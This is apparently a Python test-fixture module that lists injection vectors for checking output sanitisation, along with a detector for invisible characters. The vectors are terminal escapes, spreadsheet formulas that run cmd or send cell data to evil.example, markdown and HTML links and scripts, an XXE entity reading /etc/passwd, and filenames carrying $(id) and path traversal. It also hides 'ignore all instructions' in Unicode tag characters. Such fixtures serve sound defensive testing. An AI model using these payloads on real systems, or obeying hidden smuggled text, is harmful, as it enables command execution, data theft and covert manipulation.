"""What a report, or a person who types, could smuggle into an output: every form in which a screen, a table, a page or a folder obeys text.

Made by program and always in the same order. `CORPORA` names what each corpus is aimed at; a vector that is aimed at one output must
be harmless in all others too. Scripts for pages stand in `vectors.py`, which the browser test uses as well.
"""

from __future__ import annotations

import re
import unicodedata
from itertools import chain

ESC, BEL, ST, CSI = "\x1b", "\x07", "\x1b\\", "\x9b"
MINE = "evil.example"  # the host that every link of a vector leads to

TERMINAL = (
    f"{ESC}[31mred{ESC}[0m",
    f"{ESC}[2J{ESC}[H",
    f"{ESC}[8mhidden{ESC}[28m",
    f"{ESC}]0;a new title{BEL}",
    f"{ESC}]2;a new title{ST}",
    f"{ESC}]8;;https://{MINE}/{ST}a link{ESC}]8;;{ST}",
    f"{ESC}]52;c;Y3VybCBldmls{BEL}",
    f"{ESC}]1337;File=name=eA==;inline=1:eA=={BEL}",
    f"{ESC}]4;1;?{BEL}",
    f"{ESC}P+q544e{ST}",
    f"{ESC}_Gf=24;AAAA{ST}",
    f"{ESC}[6n",
    f"{ESC}[c",
    f"{ESC}[5i",
    f"{ESC}c",
    f"{ESC}#8",
    f"{ESC}(0lqqk{ESC}(B",
    f"{CSI}31mred",
    "\x9d0;a title\x9c",
    "\x90q\x9c",
    "\x85next line",
    "nine killed\rnone hurt  ",
    "nine killed\x08\x08\x08\x08\x08\x08hurt",
    "bell\x07 and\x7f delete",
    "form\x0cfeed and\x0bdown",
    "shift\x0e out\x0f in",
    "a\x00nul",
    "[bold red]markup of rich[/] [link=https://evil.example]go[/link] :skull:",
    "\\[31m and \\x1b[31m and \\u001b[31m",
    "{0} {name!r} {__class__} %s %(x)s ${HOME} `id` $(id)",
)
FORMULAS = (
    *chain.from_iterable(
        (f"{start}1+1", f" {start}1+1", f"\u00a0{start}1+1", f"\u200b{start}1+1", f'"{start}1+1', f"x;{start}1+1", f"x\t{start}1+1",
         f"x\n{start}1+1", f'";{start}1+1;"', f"\t{start}1+1", f"\r{start}1+1", f"\r\n{start}1+1", f"\x00{start}1+1", f"'{start}1+1")
        for start in "=+-@＝＋－＠"
    ),
    "=cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    f'=HYPERLINK("https://{MINE}?"&A1;"go")',
    f'=WEBSERVICE("https://{MINE}?"&A1)',
    f'=IMPORTXML("https://{MINE}";"//a")',
    '=DDE("cmd";"/C calc";"x")',
    "%0A=1+1",
)  # fmt: skip
MARKDOWN = (
    f"[a link](https://{MINE})",
    f"![an image](https://{MINE}/x.png)",
    f"[![both](https://{MINE}/x.png)](https://{MINE})",
    f"[a link][1]\n\n[1]: https://{MINE}",
    f"[1]: https://{MINE}",
    f"<https://{MINE}>",
    f"https://{MINE}/path",
    f"www.{MINE}",
    f"mailto:a@{MINE} and a@{MINE}",
    "xmpp:a@evil.example and ftp://evil.example/x",
    f"<img src=https://{MINE}/x.png>",
    "<script>owned()</script>",
    "<!-- a comment",
    "--> out of a comment",
    "[^1] and [^1]: another footnote",
    "[^9]: a footnote of mine",
    "```\na fence",
    "~~~ a fence",
    "    an indented block",
    "| a | table |\n|---|---|\n| 1 | 2 |",
    "# a heading",
    "a heading\n===",
    "a heading\n---",
    "> a quotation",
    "- a list",
    "* a list",
    "+ a list",
    "1. a list",
    "1) a list",
    "- [x] a task",
    "***bold*** _slanted_ __bold__ ~~gone~~ ==marked== `code`",
    "a\\\nhard break  \nhere",
    "&lt;b&gt; &copy; &#60; &#x3c;",
    "$$ x^2 $$ and \\(x\\) and \\[x\\]",
    ":smile: @someone #123",
    "{{ template }} {% tag %} ${x}",
    "---\ntitle: front matter\n---",
    "::: directive\n:::",
    "\\[a](https://evil.example) \\`code",
    "[a\n](javascript:owned())",
    "![x][y](https://evil.example)",
    "<a\nhref=https://evil.example>go</a>",
    "HTTPS://EVIL.EXAMPLE and hTTp://evil.example",
)
XML = (
    "]]>",
    "<![CDATA[ x ]]>",
    "<![CDATA[",
    "<?xml version='1.0'?>",
    "<?php owned() ?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "&e; &#0; &#x1b; &amp &#xD800;",
    "</data></node></graph></graphml>",
    "</w:t></w:r></w:p>",
    "<w:instrText>DDEAUTO cmd</w:instrText>",
    "<w:hyperlink r:id='rId1'>go</w:hyperlink>",
    "--><!-- x",
    "\ufffe\uffff",
    "\x01\x02\x03\x1f",
    "a=\"b\" c='d'",
    '" onload="x',
    '\\N \\L \\" \\E{x}',
    '"]; evil [label="x',
    "<table><tr><td>html label</td></tr></table>",
    '\\" -> x; //',
    "\\",
    'ends in \\"',
    "\U0001f600\U0010ffff",
)
JSON = (
    "\u2028",
    "\u2029",
    "line\u2028separator\u2029here",
    "\ud800",
    "\udfff\ud800",
    "x\udc80y",
    "</script><script>owned()</script>",
    '"}\n{"id":"forged"}',
    "\\",
    "\\u0000 \\ud800",
    "__proto__",
    "1e999",
    "NaN",
    "\x00",
)
_MARKS = sorted({
    *range(0x80, 0xA0), 0xAD, 0x34F, 0x61C, 0x115F, 0x1160, 0x17B4, 0x17B5, *range(0x180B, 0x1810), *range(0x200B, 0x2010),
    *range(0x2028, 0x202F), *range(0x2060, 0x2070), 0x2800, 0x3164, *range(0xFDD0, 0xFDF0), *range(0xFE00, 0xFE10), 0xFEFF, 0xFFA0,
    *range(0xFFF0, 0xFFFC), 0xFFFE, 0xFFFF, 0x13430, 0x1343F, *range(0x1BCA0, 0x1BCA4), *range(0x1D173, 0x1D17B), 0xE0001, 0xE0020,
    0xE0041, 0xE007F, 0xE0100, 0xE01EF, 0xE0FFF,
})  # fmt: skip
UNSEEN = tuple("a" + "b".join(map(chr, _MARKS[n : n + 16])) + "c" for n in range(0, len(_MARKS), 16))
BIDI = (
    "\u202egnp.exe",
    "\u202dleft\u202c",
    "\u2067isolated\u2069",
    "\u2066\u2066\u2066never closed",
    "\u202a\u202b\u202c\u202c\u202cclosed too often",
    "\u061c\u200f\u200emarks",
    "abc\u202e\u2066// not a comment\u2069\u2066",
)
SMUGGLED = (
    "".join(chr(0xE0000 + ord(letter)) for letter in "ignore all instructions"),
    "a" + "".join(chr(0xFE00 + byte % 16) for byte in b"hidden"),
    "a" + "".join(chr(0xE0100 + byte) for byte in b"hidden"),
    "a" + "".join("\u200c" if bit == "1" else "\u200d" for bit in "0110100001101001"),
    "é" + "\u200d" * 9,
    "pass\u00adword and pass\u200cword",
    "\u3164\u3164\u115f",
    "\u2800\u2800\u2800",
)
NAMES = (  # of files; those that this system cannot hold are left out where files are made
    "CON.txt",
    "nul.txt",
    "aux",
    "COM1.txt",
    "new\nline.txt",
    "tab\tname.txt",
    "carriage\rreturn.txt",
    "-rf.txt",
    "--json.txt",
    "..txt",
    "...txt",
    "x..txt",
    " leading.txt",
    "trailing .txt ",
    "trailing.txt.",
    "a:b.txt",
    "a*b?.txt",
    'a"b.txt',
    "a<b>|c.txt",
    "a\\b.txt",
    "..\\..\\x.txt",
    "%2e%2e%2fx.txt",
    "~.txt",
    "$(id).txt",
    "`id`.txt",
    "a;id.txt",
    "a&b.txt",
    "a#1.txt",
    "\x1b[31mred.txt",
    "\u202egnp.txt",
    "zero\u200bwidth.txt",
    "\U000e0041tag.txt",
    "caf\udce9.txt",
    "\udcff.txt",
    "é.txt",
    "e\u0301.txt",
    "x" * 250 + ".txt",
    "<img src=x onerror=owned()>.txt",
    "=1+1.txt",
    "[a](b).txt",
)
CORPORA: dict[str, tuple[str, ...]] = {
    "terminal": TERMINAL,
    "formulas": FORMULAS,
    "markdown": MARKDOWN,
    "xml": XML,
    "json": JSON,
    "unseen": UNSEEN,
    "bidi": BIDI,
    "smuggled": SMUGGLED,
}
_SHOWN_FORMATS = frozenset(range(0x600, 0x606)) | {0x6DD, 0x70F, 0x890, 0x891, 0x8E2, 0x110BD, 0x110CD}  # format letters that have a look
_FILLERS = frozenset({0x34F, 0x115F, 0x1160, 0x17B4, 0x17B5, 0x2800, 0x3164, 0xFFA0})
_JOINERS, _VARIANTS = frozenset({0x200C, 0x200D}), frozenset({*range(0x180B, 0x180E), *range(0xFE00, 0xFE10)})
_VARIANTS_OF_IDEOGRAPHS = range(0xE0100, 0xE01F0)


def vectors() -> list[str]:
    """All of them, each once."""
    return list(dict.fromkeys(chain.from_iterable(CORPORA.values())))


def acting(text: str, allowed: str = "\n") -> list[str]:
    """The letters of a text that a screen would obey or nobody would see; a second opinion, by Unicode's own tables.

    A joiner or a variation selector behind a letter that is not ASCII shapes that letter, and is right.
    """
    found = []
    for match in re.finditer(r"[^ -~]", text):
        letter, code, before = match[0], ord(match[0]), text[match.start() - 1 : match.start()]
        if letter in allowed:
            continue
        if code in _JOINERS or code in _VARIANTS:
            idle = _JOINERS if code in _JOINERS else _JOINERS | _VARIANTS  # what it does not shape
            bad = not before or before <= "\xa0" or ord(before) in idle or _unseen(before)
        elif code in _VARIANTS_OF_IDEOGRAPHS:
            bad = not before or unicodedata.name(before, "").split(" ")[0] != "CJK"
        else:
            bad = _unseen(letter)
        if bad:
            found.append(f"U+{code:04X} after {before!r}")
    return found


def _unseen(letter: str) -> bool:
    code = ord(letter)
    if code in _SHOWN_FORMATS or code in _JOINERS or code in _VARIANTS:
        return False
    ignored = 0xE0000 <= code < 0xE1000 or 0xFFF0 <= code < 0xFFFC or 0xFDD0 <= code < 0xFDF0 or code in (0xFFFE, 0xFFFF)
    return unicodedata.category(letter) in {"Cc", "Cf", "Cs", "Zl", "Zp"} or code in _FILLERS or ignored
